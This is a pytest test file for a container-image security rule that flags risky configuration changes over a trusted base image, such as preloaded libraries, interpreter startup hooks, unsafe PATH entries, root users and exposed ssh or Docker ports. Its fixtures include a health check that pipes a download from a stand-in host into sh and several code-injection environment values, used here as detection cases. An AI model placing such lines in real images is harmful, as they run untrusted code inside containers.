"""Tests of the rule `image-config`: what a config makes a container do, over its base's."""

from collections.abc import Mapping, Sequence
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.unit.rules.facts_builder import NOW, WEEK, make_facts, make_image, make_trust

from layerproof.errors import ManifestError
from layerproof.model.digest import Digest
from layerproof.model.facts import ImageFacts, KnownImage
from layerproof.model.finding import Effect, Finding, Severity
from layerproof.model.verdict import Base
from layerproof.oci.limits import Limits
from layerproof.oci.manifest import parse_json
from layerproof.rules.image_config import CHECKS, ImageConfig, ImageConfigSettings

Config = Mapping[str, object]
SYSTEM_PATH = "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
BASE: Config = {
    "Env": [SYSTEM_PATH],
    "User": "app",
    "Entrypoint": ["/usr/bin/tini", "--"],
    "Volumes": {"/data": {}},
}


def facts_of(config: Config, base: Config | None = BASE) -> ImageFacts:
    """An application on a trusted base; `base` None: the index does not have the base's config."""
    golden = make_image("os", "hardening", reference="docker://registry.example/golden:1")
    golden = replace(golden, config={"config": dict(base or {})})
    image = replace(make_image("os", "hardening", "app"), config={"config": dict(config)})
    record = make_trust(golden)
    facts = make_facts(image, trust=[record])
    known = {} if base is None else {record.top: (KnownImage(golden, ("golden",)),)}
    return replace(facts, base=Base(golden.reference, record.top, 2), below=known)


def findings(
    config: Config, base: Config | None = BASE, settings: ImageConfigSettings | None = None
) -> tuple[Finding, ...]:
    return ImageConfig().check(facts_of(config, base), settings or ImageConfigSettings())


def checks(config: Config, base: Config | None = BASE) -> list[object]:
    return [finding.evidence["check"] for finding in findings(config, base)]


def app(**changes: object) -> Config:
    return {**BASE, **changes}


def env(*more: str) -> Config:
    return app(Env=[SYSTEM_PATH, *more])


def test_an_application_that_keeps_the_base_config_passes() -> None:
    config = app(
        Cmd=["/srv/app"],
        Env=[SYSTEM_PATH, "APP_ENV=production", "NODE_OPTIONS=--max-old-space-size=512"],
        Entrypoint=["/usr/bin/tini", "--", "/srv/app"],
        ExposedPorts={"8080/tcp": {}, "22/udp": {}},
        Volumes={"/data": {}, "/var/lib/app": {}},
        Healthcheck={"Test": ["CMD-SHELL", "curl -f http://localhost:8080/ || exit 1"]},
        WorkingDir="/srv",
    )
    assert findings(config) == ()


@pytest.mark.parametrize(
    ("config", "check", "message"),
    [
        (env("LD_PRELOAD=/srv/x.so"), "preload", "sets LD_PRELOAD=/srv/x.so"),
        (env("LD_AUDIT=/srv/x.so"), "preload", "sets LD_AUDIT"),
        (env("LD_LIBRARY_PATH=/srv/lib"), "loader-path", "sets LD_LIBRARY_PATH"),
        (env("GCONV_PATH=/srv"), "loader-path", "sets GCONV_PATH"),
        (env("BASH_ENV=/srv/rc"), "interpreter-startup", "sets BASH_ENV"),
        (env("PYTHONSTARTUP=/srv/rc.py"), "interpreter-startup", "sets PYTHONSTARTUP"),
        (
            env("NODE_OPTIONS=--max-old-space-size=9 -r /x.js"),
            "interpreter-startup",
            "NODE_OPTIONS",
        ),
        (env("NODE_OPTIONS=--import=/x.mjs"), "interpreter-startup", "NODE_OPTIONS"),
        (env("JAVA_TOOL_OPTIONS=-javaagent:/x.jar"), "interpreter-startup", "JAVA_TOOL_OPTIONS"),
        (app(Env=[SYSTEM_PATH + ":"]), "search-path", "PATH has an empty element"),
        (app(Env=["PATH=:/usr/bin"]), "search-path", "PATH has an empty element"),
        (app(Env=["PATH=bin:/usr/bin"]), "search-path", "the relative folder bin"),
        (app(Env=["PATH=/usr/bin:/tmp"]), "search-path", "PATH has /tmp, where anybody"),
        (app(Env=["PATH=/usr/bin://var//tmp/./x"]), "search-path", "where anybody"),
        (
            app(Env=[SYSTEM_PATH.replace("=", "=/opt/x/bin:")]),
            "search-order",
            "PATH searches /opt/x/bin before the folders of the base",
        ),
        (app(Volumes={"/etc": {}}), "volume", "declares a volume over /etc"),
        (app(Volumes={"/usr/": {}}), "volume", "declares a volume over /usr/"),
        (
            app(Healthcheck={"Test": ["CMD-SHELL", "wget -qO- http://x.example/h | sh"]}),
            "health-check",
            "runs what it downloads",
        ),
        (app(Entrypoint=["/srv/x"]), "entrypoint", "the base's entry point /usr/bin/tini -- is"),
        (app(Entrypoint=None), "entrypoint", "the base's entry point /usr/bin/tini -- is gone"),
        (app(ExposedPorts={"22/tcp": {}}), "exposed-port", "exposes 22/tcp (ssh)"),
        (app(ExposedPorts={"2375": {}}), "exposed-port", "exposes 2375 (Docker)"),
        (app(OnBuild=["RUN /x"]), "on-build", "has build triggers"),
        (app(User=""), "user-root", "no user is named: programs start as root"),
        (app(User="root:root"), "user-root", "the user is root"),
        (app(User="000:1000"), "user-root", "the user is 000"),
        (app(User=None), "user-root", "no user is named"),
    ],
)
def test_what_a_config_does_over_its_base_is_found(
    config: Config, check: str, message: str
) -> None:
    (finding,) = findings(config)
    assert finding.evidence["check"] == check
    assert message in finding.message
    assert finding.remedy
    assert finding.position is None
    assert finding.severity is CHECKS[check]


@pytest.mark.parametrize(
    "more",
    [
        {"Env": ["LD_PRELOAD=/usr/lib/libjemalloc.so.2"]},
        {"Env": ["PATH=/opt/tools/bin:/usr/bin"]},
        {"Volumes": {"/run": {}}},
        {"ExposedPorts": {"22/tcp": {}}},
        {"OnBuild": ["RUN make"]},
    ],
)
def test_what_the_trusted_base_says_already_is_not_this_images_doing(more: Config) -> None:
    assert findings({**BASE, **more}, {**BASE, **more}) == ()


def test_a_preload_other_than_that_of_the_base_is_found() -> None:
    base = {**BASE, "Env": ["LD_PRELOAD=/usr/lib/libjemalloc.so.2"]}
    assert checks({**BASE, "Env": ["LD_PRELOAD=/tmp/x.so"]}, base) == ["preload"]


def test_the_last_value_of_a_variable_counts() -> None:
    assert checks(env("LD_PRELOAD=/x.so", "LD_PRELOAD=")) == []
    assert checks(env("LD_PRELOAD=", "LD_PRELOAD=/x.so")) == ["preload"]


def test_with_an_unknown_base_config_everything_counts_but_comparisons() -> None:
    assert checks(env("LD_PRELOAD=/x.so"), None) == ["preload"]
    assert checks(app(Entrypoint=["/x"], User=""), None) == []


def test_root_over_a_base_that_is_root_counts_only_when_asked() -> None:
    config = {**BASE, "User": ""}
    assert findings(config, config) == ()
    (finding,) = findings(config, config, ImageConfigSettings(root_user="always"))
    assert finding.evidence["check"] == "user-root"


def test_what_ordinary_images_do_now_and_then_only_alerts() -> None:
    (mild,) = findings(app(Entrypoint=["/x"]))
    (harsh,) = findings(env("LD_PRELOAD=/x.so"))
    assert (mild.effect, harsh.effect) == (Effect.ALERT, Effect.REFUSE)
    assert harsh.severity is Severity.CRITICAL
    (strict,) = findings(app(Entrypoint=["/x"]), settings=ImageConfigSettings(alert=()))
    assert strict.effect is Effect.REFUSE


def test_an_ignored_check_is_left_out() -> None:
    settings = ImageConfigSettings(ignore=("preload",))
    assert findings(env("LD_PRELOAD=/x.so"), settings=settings) == ()


def test_the_trusted_image_itself_is_not_judged() -> None:
    golden = replace(make_image("os"), config={"config": {"Env": ["LD_PRELOAD=/x.so"]}})
    facts = make_facts(golden, trust=[make_trust(golden)])
    facts = replace(facts, base=Base("golden", golden.layers[-1].chain_id, 1))
    assert ImageConfig().check(facts, ImageConfigSettings()) == ()


def test_the_trusted_layers_with_another_config_are_judged() -> None:
    golden = make_image("os")
    other = replace(
        golden, config_digest=Digest.of(b"x"), config={"config": {"Env": ["LD_PRELOAD=/x.so"]}}
    )
    facts = make_facts(other, trust=[make_trust(golden)])
    facts = replace(facts, base=Base("golden", golden.layers[-1].chain_id, 1))
    assert [f.evidence["check"] for f in ImageConfig().check(facts, ImageConfigSettings())] == [
        "preload"
    ]


def test_a_base_whose_trust_ended_excuses_nothing() -> None:
    base = {**BASE, "Env": ["LD_PRELOAD=/x.so"]}
    facts = facts_of(base, base)
    dead = [replace(record, revoked_at=NOW - WEEK) for record in facts.trust]
    found = ImageConfig().check(replace(facts, trust=tuple(dead)), ImageConfigSettings())
    assert [finding.evidence["check"] for finding in found] == ["preload"]


def test_case_variant_keys_are_refused_before_any_rule_sees_them() -> None:
    twice = b'{"config":{"User":"app","user":"root"}}'
    with pytest.raises(ManifestError, match="user"):
        parse_json(twice, where="config", limits=Limits())


def test_terminal_escapes_in_a_value_do_not_reach_the_message() -> None:
    (finding,) = findings(env("LD_PRELOAD=/x\x1b[2J\u202e.so"))
    assert finding.message.isprintable()


anything = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=4), inner),
    max_leaves=6,
)
NAMES: Sequence[str] = (
    "Env", "User", "Entrypoint", "Volumes", "ExposedPorts", "OnBuild", "Healthcheck",
)  # fmt: skip


@given(config=st.dictionaries(st.sampled_from(NAMES), anything), base=anything)
def test_no_config_makes_the_rule_raise(config: dict[str, object], base: object) -> None:
    facts = facts_of(config, base if isinstance(base, dict) else {})
    for finding in ImageConfig().check(facts, ImageConfigSettings(root_user="always")):
        assert finding.message.isprintable()
        assert len(finding.message) < 2_000
